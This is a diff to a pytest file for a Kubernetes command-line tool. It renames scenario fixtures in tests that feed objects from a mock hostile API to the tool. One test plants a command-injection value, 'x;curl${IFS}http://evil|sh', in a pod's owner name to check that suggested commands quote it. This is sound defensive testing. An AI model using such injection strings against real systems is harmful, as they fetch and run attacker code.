@@ -13,7 +13,7 @@ import pytest
 from support.hostile_api import ATTACK, HostileApi, hostile_api, kubeconfig
 from support.screens import OWN_SEQUENCE, Shown, run
 from vacate.cli.main import COMMANDS
-from views.explanation_inputs import SCENES
+from views.explanation_inputs import EXPLANATION_INPUTS
 
 pytestmark = pytest.mark.process
 
@@ -83,9 +83,9 @@ def check(shown: Shown) -> None:
 def test_hostile_objects(api: HostileApi, tmp_path: Path, command: str, place: str) -> None:
     api.refusing = False
     config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
-    for scene in (SILENCE, BLOCKED, DAEMON) if command in ("status", "explain") else (SILENCE,):
-        play = SCENES[scene]()
-        api.serve(play.pod, play.request, play.budgets, names="-A" in LOOKS[command])
+    for state in (SILENCE, BLOCKED, DAEMON) if command in ("status", "explain") else (SILENCE,):
+        sim = EXPLANATION_INPUTS[state]()
+        api.serve(sim.pod, sim.request, sim.budgets, names="-A" in LOOKS[command])
         shown = run(*LOOKS[command], variables={"KUBECONFIG": str(config)}, terminal=PLACES[place])
         check(shown)
         assert "web-1" in shown.plain or command.split(maxsplit=1)[0] in ("version", "interceptors"), (
@@ -95,9 +95,9 @@ def test_hostile_objects(api: HostileApi, tmp_path: Path, command: str, place: s
 
 @pytest.mark.parametrize("place", PLACES)
 def test_a_live_view_of_hostile_objects(api: HostileApi, tmp_path: Path, place: str) -> None:
-    play = SCENES[SILENCE]()
+    sim = EXPLANATION_INPUTS[SILENCE]()
     api.refusing = False
-    api.serve(play.pod, play.request, play.budgets, names=True)
+    api.serve(sim.pod, sim.request, sim.budgets, names=True)
     config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
     shown = run(
         "status", "-A", "-w",
@@ -146,10 +146,10 @@ def test_hostile_arguments(arguments: tuple[str, ...]) -> None:
 
 
 def test_commands_to_be_copied_quote_what_others_chose(api: HostileApi, tmp_path: Path) -> None:
-    play = SCENES[DAEMON]()
+    sim = EXPLANATION_INPUTS[DAEMON]()
     api.refusing = False
-    api.serve(play.pod, play.request, play.budgets, names=False)
-    assert play.pod is not None
+    api.serve(sim.pod, sim.request, sim.budgets, names=False)
+    assert sim.pod is not None
     pod = api.tiny.objects[("pods", "default", "web-1")]
     pod["metadata"]["ownerReferences"][0]["name"] = "x;curl${IFS}http://evil|sh"
     config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
